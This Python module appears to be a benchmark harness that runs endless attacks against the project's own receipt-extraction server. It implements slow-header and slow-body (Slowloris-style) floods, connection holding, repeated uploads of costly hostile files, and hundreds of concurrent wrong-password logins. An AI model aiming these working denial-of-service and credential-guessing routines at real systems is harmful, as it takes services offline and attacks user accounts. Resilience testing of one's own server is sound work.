"""Attacks on a server of our own: each goes on until its process is killed."""

import asyncio
import contextlib
import ssl
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from functools import partial
from urllib.parse import urlsplit

import httpx

from benchmarks import hostile_files

_UPLOADS_AT_ONCE = 4
_OPEN_BODIES = 40
_CONNECTIONS = 500
_LOGINS_AT_ONCE = 300
_TIMEOUT_S = 300.0
_PAUSE_S = 0.5


@dataclass(frozen=True, slots=True)
class Target:
    """What the attacker knows: the address, and what its own account has."""

    url: str
    secret: str
    email: str

    @property
    def address(self) -> tuple[str, int]:
        """Where to connect to."""
        parts = urlsplit(self.url)
        return parts.hostname or "", parts.port or 80


async def upload(target: Target, make: Callable[[], bytes]) -> None:
    """Upload files that are expensive to read, some at once."""

    async def forever() -> None:
        async with httpx.AsyncClient(
            base_url=target.url, headers={"X-API-Key": target.secret}, timeout=_TIMEOUT_S
        ) as client:
            while True:
                file = await asyncio.to_thread(make)
                with contextlib.suppress(httpx.HTTPError):
                    await client.post("/v1/extract", files={"file": ("receipt", file)})
                await asyncio.sleep(_PAUSE_S)

    await _at_once(_UPLOADS_AT_ONCE, forever)


async def send_endless_head(target: Target) -> None:
    """Send one header that never ends."""
    await _at_once(1, partial(_pour, target, b"GET /healthz HTTP/1.1\r\nX-Filler: ", b"a" * 65536))


async def send_endless_headers(target: Target) -> None:
    """Send small headers without an end."""
    await _at_once(1, partial(_pour, target, b"GET /healthz HTTP/1.1\r\n", b"A: b\r\n" * 8192))


async def trickle_heads(target: Target) -> None:
    """Send the heads of many requests, a byte a second each."""
    head = b"GET /healthz HTTP/1.1\r\nX-Filler: "
    await _at_once(_CONNECTIONS, partial(_trickle, target, head, 1))


async def trickle_bodies(target: Target) -> None:
    """Begin large uploads, and then send a byte a second each."""
    head = (
        b"POST /v1/extract HTTP/1.1\r\nHost: recibo.test\r\nX-API-Key: %s\r\n"
        b"Content-Type: multipart/form-data; boundary=b\r\nContent-Length: 15000000\r\n\r\n"
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n'
    ) % target.secret.encode()
    await _at_once(_OPEN_BODIES, partial(_trickle, target, head + bytes(8_000_000), 1))


async def hold_connections(target: Target) -> None:
    """Open connections and send nothing."""
    await _at_once(_CONNECTIONS, partial(_trickle, target, b"", 0))


async def guess_passwords(target: Target) -> None:
    """Try wrong passwords of many accounts at once."""
    numbers = iter(range(10**9))

    async def forever() -> None:
        async with httpx.AsyncClient(base_url=target.url, timeout=_TIMEOUT_S) as client:
            while True:
                body = {"email": f"user{next(numbers)}@example.com", "password": "wrong password"}
                with contextlib.suppress(httpx.HTTPError):
                    await client.post("/v1/auth/login", json=body)

    await _at_once(_LOGINS_AT_ONCE, forever)


async def _at_once(count: int, forever: Callable[[], Awaitable[None]]) -> None:
    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(_again(forever))


async def _again(forever: Callable[[], Awaitable[None]]) -> None:
    """Go on whatever the server does to the connection."""
    while True:
        with contextlib.suppress(OSError, ssl.SSLError, asyncio.IncompleteReadError):
            await forever()
        await asyncio.sleep(_PAUSE_S)


async def _pour(target: Target, head: bytes, filler: bytes) -> None:
    _, writer = await asyncio.open_connection(*target.address)
    with contextlib.closing(writer):
        writer.write(head)
        while True:
            writer.write(filler)
            await writer.drain()


async def _trickle(target: Target, head: bytes, count: int) -> None:
    reader, writer = await asyncio.open_connection(*target.address)
    with contextlib.closing(writer):
        writer.write(head)
        await writer.drain()
        while not reader.at_eof():
            writer.write(b"a" * count)
            await writer.drain()
            with contextlib.suppress(TimeoutError):
                # What the server answers does not matter; that it hangs up does.
                await asyncio.wait_for(reader.read(65536), 1)


Attack = Callable[[Target], Awaitable[None]]

#: By the name that the table shows.
ATTACKS: dict[str, Attack] = {
    **{name: partial(upload, make=make) for name, make in hostile_files.FILES.items()},
    "a header without an end": send_endless_head,
    "headers without an end": send_endless_headers,
    f"{_CONNECTIONS} heads, a byte a second": trickle_heads,
    f"{_OPEN_BODIES} bodies, a byte a second": trickle_bodies,
    f"{_CONNECTIONS} silent connections": hold_connections,
    f"{_LOGINS_AT_ONCE} wrong passwords at once": guess_passwords,
}
